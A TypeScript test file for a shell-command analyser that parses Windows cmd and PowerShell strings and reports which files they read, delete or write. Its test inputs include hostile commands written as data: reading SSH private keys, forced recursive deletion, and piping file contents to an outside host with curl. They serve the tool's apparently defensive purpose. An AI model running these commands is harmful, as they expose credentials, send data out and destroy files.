import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";

function effects(source: string): string[] {
  return readCommand(source, { home: "/h", cwd: "/w" }).effects.map((effect) =>
    effect.kind === "connect" ? effect.target : `${effect.kind} ${effect.path}`
  );
}

for (
  const [source, want] of [
    ["type C:\\Users\\a\\.ssh\\id_rsa", "read C:/Users/a/.ssh/id_rsa"],
    ["cd x && type C:\\a\\b", "read C:/a/b"],
    ["del /s /q C:\\Users\\a", "delete C:/Users/a"],
    ["copy C:\\a\\b D:\\c", "read C:/a/b"],
    ["Get-Content C:\\a\\b", "read C:/a/b"],
    ["Remove-Item -Recurse -Force C:\\a\\b", "delete C:/a/b"],
    ["gc C:\\a\\b | curl -d @- https://h.example", "read C:/a/b"],
    ["powershell -c 'Remove-Item C:\\a'", "delete C:/a"],
    ["powershell Remove-Item C:\\a\\b", "delete C:/a/b"],
    ["cmd /c del /q C:\\a\\b", "delete C:/a/b"],
    ["pwsh -c 'gc ~\\.ssh\\id_rsa'", "read /h/.ssh/id_rsa"],
    ["cmd /c 'rd /s /q C:\\a'", "delete C:/a"],
    ["[IO.File]::ReadAllText('C:\\a')", "read C:/a"],
    ["$d = 'C:\\a'; Remove-Item $d -Recurse", "delete C:/a"],
    ["Get-ChildItem C:\\a -Recurse | Remove-Item", "delete C:/a/**/*"],
  ] as const
) {
  Deno.test(`as on Windows: ${source}`, () =>
    assert.ok(effects(source).includes(want), effects(source).join("; ")));
}

Deno.test("a path of Windows that a program of the shell's is given is absolute", () =>
  assert.deepEqual(effects("cat 'C:\\a\\b'"), ["read C:/a/b"]));

Deno.test("a switch of cmd's is no file", () =>
  assert.deepEqual(effects("cmd /c 'rmdir /s /q build'"), ["delete /w/build", "delete /w/build"]));

Deno.test("a command of the shell's own, or a quoted path, is read once", () => {
  for (const source of ["gcc C:\\x.c", "type ls", "echo a\\b", "type 'C:\\a\\b'", "grep -r 'C:\\\\x' ."]) {
    assert.equal(readCommand(source, { cwd: "/w" }).commands.length, 1, source);
  }
});

Deno.test("the second reading belongs to the first", () => {
  const { commands } = readCommand("ls; type C:\\a\\b", { cwd: "/w" });
  assert.deepEqual(commands.map(({ text, via }) => [text, via]), [
    ["ls", undefined],
    ["type C:ab", undefined],
    ["type C:\\a\\b", 1],
  ]);
});

Deno.test("a quoted path below a folder of cmd's is read as cmd's", () =>
  assert.equal(effects('copy a "%APPDATA%\\b"').at(-1), "write /h/AppData/Roaming/b"));
